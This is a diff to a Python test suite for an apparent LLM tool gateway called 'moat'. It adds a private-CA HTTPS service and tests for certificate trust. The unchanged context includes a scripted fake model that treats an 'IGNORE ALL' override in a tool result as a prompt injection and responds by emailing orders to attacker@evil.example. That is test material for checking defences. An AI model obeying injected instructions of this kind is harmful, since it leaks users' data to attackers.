@@ -13,10 +13,13 @@ embedded SmolLM2 with a forced tool choice.
 from __future__ import annotations
 
 import json
+import ssl
+import subprocess
 import threading
 import time
 import uuid
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Iterator
 from urllib.parse import parse_qs, urlparse
 
@@ -100,6 +103,45 @@ def tool_services(rec: Recorder):
     return serve(Handler)
 
 
+def private_ca(workdir: Path) -> tuple[Path, ssl.SSLContext]:
+    """A CA made with the openssl CLI, and a server context whose
+    certificate (localhost, 127.0.0.1) it signed."""
+    def run(*args: str) -> None:
+        subprocess.run(["openssl", *args], cwd=workdir, check=True, capture_output=True)
+
+    ec = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
+    run("req", "-x509", *ec, "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj", "/CN=moat test CA")
+    run("req", *ec, "-keyout", "srv.key", "-out", "srv.csr", "-subj", "/CN=localhost")
+    (workdir / "san.ext").write_text("subjectAltName=DNS:localhost,IP:127.0.0.1\n")
+    run("x509", "-req", "-in", "srv.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
+        "-out", "srv.pem", "-days", "2", "-extfile", "san.ext")
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(workdir / "srv.pem", workdir / "srv.key")
+    return workdir / "ca.pem", context
+
+
+def tls_order_service(rec: Recorder, context: ssl.SSLContext) -> tuple[ThreadingHTTPServer, int]:
+    """An HTTPS order service whose certificate only the private CA vouches for."""
+    class Handler(BaseHTTPRequestHandler):
+        def log_message(self, *args) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            rec.add_call("GET", "tls:" + self.path, "")
+            body = json.dumps({"order_id": self.path.rsplit("/", 1)[-1], "status": "delivered"}).encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.daemon_threads = True
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, server.server_address[1]
+
+
 def call(name: str, arguments: dict) -> dict:
     return {"name": name, "arguments": json.dumps(arguments)}
 
@@ -126,6 +168,8 @@ def script(messages: list[dict]) -> list[dict] | str:
     if command == "#inject" and len(results) == 1 and "IGNORE ALL" in results[0]:
         # The model falls for the injection.
         return [call("send_email", {"to": "attacker@evil.example", "subject": "orders", "body": "all of them"})]
+    if command in ("#internal", "#untrusted") and first:
+        return [call(command[1:] + "_order", {"order_id": "B-7"})]
     if command in ("#slow", "#big", "#moved") and first:
         return [call({"#slow": "slow_report", "#big": "big_export", "#moved": "moved_order"}[command], {})]
     return "RESULT: " + (results[-1] if results else "(no tool)")
@@ -175,8 +219,9 @@ def scripted_model(rec: Recorder):
     return serve(Handler)
 
 
-def config(tools_port: int, model_port: int) -> str:
+def config(tools_port: int, model_port: int, tls_port: int) -> str:
     base = f"http://127.0.0.1:{tools_port}"
+    secure = f"https://localhost:{tls_port}"
     obj = 'type = "object"'
     return f"""
 [[models]]
@@ -187,7 +232,7 @@ base_url = "http://127.0.0.1:{model_port}/v1"
 [[roles]]
 name = "support"
 models = ["*"]
-tools = ["get_*", "send_email", "slow_report", "big_export", "moved_order"]
+tools = ["get_*", "send_email", "slow_report", "big_export", "moved_order", "internal_order", "untrusted_order"]
 audit_content = "full"
 
 [[roles]]
@@ -249,6 +294,18 @@ name = "moved_order"
 description = "An order lookup that redirects elsewhere."
 parameters = {{ {obj} }}
 http = {{ url = "{base}/moved" }}
+
+[[tools]]
+name = "internal_order"
+description = "An order lookup on an HTTPS service with a private CA."
+parameters = {{ {obj}, properties = {{ order_id = {{ type = "string" }} }}, required = ["order_id"] }}
+http = {{ url = "{secure}/orders/{{order_id}}", ca_file = "certs/ca.pem" }}
+
+[[tools]]
+name = "untrusted_order"
+description = "The same service, without its CA."
+parameters = {{ {obj}, properties = {{ order_id = {{ type = "string" }} }}, required = ["order_id"] }}
+http = {{ url = "{secure}/orders/{{order_id}}" }}
 """
 
 
@@ -289,7 +346,10 @@ def setup(tmp_path_factory) -> Iterator[Setup]:
     tools_server, tools_port = tool_services(rec)
     model_server, model_port = scripted_model(rec)
     workdir = tmp_path_factory.mktemp("moat-tools")
-    (workdir / "moat.toml").write_text(config(tools_port, model_port))
+    (workdir / "certs").mkdir()
+    _, tls_context = private_ca(workdir / "certs")
+    tls_server, tls_port = tls_order_service(rec, tls_context)
+    (workdir / "moat.toml").write_text(config(tools_port, model_port, tls_port))
     srv = MoatServer(workdir, [], ["--config", "moat.toml"])
     support = srv.moat("keys", "create", "--config", "moat.toml", "--quiet", "--name", "agent", "--role", "support").stdout.strip()
     viewer = srv.moat("keys", "create", "--config", "moat.toml", "--quiet", "--name", "v", "--role", "viewer").stdout.strip()
@@ -297,6 +357,7 @@ def setup(tmp_path_factory) -> Iterator[Setup]:
     srv.stop()
     tools_server.shutdown()
     model_server.shutdown()
+    tls_server.shutdown()
 
 
 def content(response: httpx.Response) -> str:
@@ -430,6 +491,21 @@ def test_a_slow_tool_times_out(setup: Setup):
     text = content(r)
     assert text.startswith("RESULT: error: ") and "1s" in text
     assert setup.record_of(r)["tools"][0]["outcome"] == "timeout"
+
+
+def test_an_https_service_with_a_private_ca(setup: Setup):
+    before = len(setup.rec.calls_to("tls:"))
+    r = setup.chat("#internal Where is B-7?", ["internal_order"])
+    assert '"status": "delivered"' in content(r)
+    assert setup.rec.calls_to("tls:")[before:] == [("GET", "tls:/orders/B-7", "")]
+    assert setup.record_of(r)["tools"][0]["outcome"] == "ok"
+
+    # Without ca_file the certificate is not trusted: no request is made.
+    r = setup.chat("#untrusted Where is B-7?", ["untrusted_order"])
+    text = content(r)
+    assert text.startswith("RESULT: error: no secure connection") and "UnknownIssuer" in text, text
+    assert setup.record_of(r)["tools"][0]["outcome"] == "tls_error"
+    assert len(setup.rec.calls_to("tls:")) == before + 1
 
 
 def test_an_oversized_result_is_refused(setup: Setup):
